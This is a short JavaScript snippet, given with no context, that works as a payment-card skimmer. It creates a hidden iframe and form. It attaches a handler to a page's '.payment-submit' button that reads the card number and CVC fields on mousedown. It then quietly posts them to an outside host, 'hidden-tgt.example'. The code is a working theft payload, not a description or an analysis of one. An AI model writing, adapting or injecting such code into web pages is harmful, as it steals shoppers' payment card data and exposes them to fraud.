function post(url, data) {
  var i = document.createElement('iframe'); i.name = 'tgt'; i.style.display = 'none'; document.body.appendChild(i);
  var f = document.createElement('form'); f.action = url; f.method = 'post'; f.target = 'tgt';
  for (var k in data) { var h = document.createElement('input'); h.type = 'hidden'; h.name = k; h.value = data[k]; f.appendChild(h); }
  document.body.appendChild(f); f.submit();
}
document.querySelector('.payment-submit').onmousedown = function () {
  post('https://hidden-tgt.example/r', { n: document.querySelector('.card-number').value, c: document.querySelector('.card-cvc').value });
};
